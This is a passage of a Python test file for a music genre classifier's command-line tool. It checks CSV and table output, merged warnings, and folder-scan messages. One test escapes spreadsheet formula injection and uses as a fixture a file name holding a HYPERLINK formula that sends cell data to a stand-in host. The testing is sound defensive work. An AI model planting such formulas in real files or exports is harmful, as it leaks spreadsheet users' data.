    assert row["warnings"] == [line.removeprefix(f"{path}: ")]
    as_csv = predict(tiny_project, str(path), "--format", "csv")
    assert [r["warnings"] for r in csv.DictReader(io.StringIO(as_csv.stdout))] == row["warnings"]


def test_a_rows_warnings_share_one_csv_cell_and_the_table_leaves_them_to_stderr():
    from spectrogenre.prediction import render

    row = {"path": "a.ogg", "genre": "Rock", "confidence": 0.9, "top": [{"genre": "Rock", "probability": 0.9}],
           "windows": [], "error": None, "warnings": ["cut short; 3 s lost", "samples far over full scale"]}
    [cells] = list(csv.DictReader(io.StringIO(render([row], output="csv", timeline=False))))
    assert cells["warnings"] == "cut short; 3 s lost | samples far over full scale"
    assert render([row], output="table", timeline=False) == "a.ogg  Rock         90%  (Rock 90%)\n"


def test_no_csv_cell_starts_as_a_spreadsheet_formula():
    from spectrogenre.prediction import render

    # a hostile file's name given as it is in the folder predict runs in, a genre named by a library's folder, an
    # error quoting a name: each opened in a spreadsheet would run as a formula
    rows = [{"path": '=HYPERLINK("http://x.example/?"&A1,"open").mp3', "genre": "@Rock", "confidence": 0.9,
             "top": [{"genre": "@Rock", "probability": 0.9}], "windows": [], "error": None, "warnings": []},
            {"path": "-1+2.mp3", "genre": None, "confidence": None, "top": [], "windows": [],
             "error": "+cmd quoted by a decoder", "warnings": ["=warned"]},
            {"path": "/music/=x.mp3", "genre": "Rock", "confidence": 0.9, "top": [], "windows": [], "error": None,
             "warnings": []}]
    cells = list(csv.DictReader(io.StringIO(render(rows, output="csv", timeline=False))))
    # a path gets "./" (the same file), other text an apostrophe (a spreadsheet's mark for text); others as they are
    assert [(c["path"], c["genre"], c["top"], c["error"], c["warnings"]) for c in cells] == [
        ('./=HYPERLINK("http://x.example/?"&A1,"open").mp3', "'@Rock", "'@Rock:0.9", "", ""),
        ("./-1+2.mp3", "", "", "'+cmd quoted by a decoder", "'=warned"),
        ("/music/=x.mp3", "Rock", "", "", "")]
    windows = [{"start_s": 0.0, "end_s": 15.0, "genre": "-core", "confidence": 0.9, "best_guess": "-core"}]
    [cells] = list(csv.DictReader(io.StringIO(render([rows[2] | {"windows": windows}], output="csv", timeline=True))))
    assert (cells["window_start_s"], cells["window_genre"], cells["window_confidence"]) == ("0.0", "'-core", "0.9")


def test_a_folder_given_beside_others_that_holds_no_audio_is_named(tmp_path):
    # `predict song.mp3 ~/Musci/` classified the song and said nothing of the mistyped or empty folder
    from spectrogenre.prediction import survey

    (tmp_path / "album").mkdir()
    (tmp_path / "album/song.mp3").write_bytes(b"x")
    (tmp_path / "empty").mkdir()
    (tmp_path / "covers").mkdir()
    (tmp_path / "covers/front.jpg").write_bytes(b"x")
    given = survey([tmp_path / "album", tmp_path / "empty", tmp_path / "covers"])
    assert given.files == [tmp_path / "album/song.mp3"]
    assert given.notes() == [f"found no audio files in {tmp_path / 'empty'}, {tmp_path / 'covers'}",
                             "passed over 1 file(s) that are not audio (.jpg: 1)"]
    assert survey([tmp_path / "album"]).notes() == []


def test_a_folder_of_nothing_but_a_folder_it_cannot_read_says_so_in_its_error(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from spectrogenre.cli import app
    from tests.library.test_sources import deeper_than_a_path_can_name

    (tmp_path / "music").mkdir()
    deeper_than_a_path_can_name(tmp_path / "music", monkeypatch)
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["predict", "music", "--model", str(tmp_path / "no-export")])
    assert result.exit_code == 1
    said = result.output.splitlines()[-1]
    assert said.startswith("error: no audio files found in music; passed over 1 folder(s) or link(s) (system, "
                           "hidden, unreadable or repeated): music/" + "d" * 30 + "/"), said
    assert said.endswith(": cannot be read: File name too long")
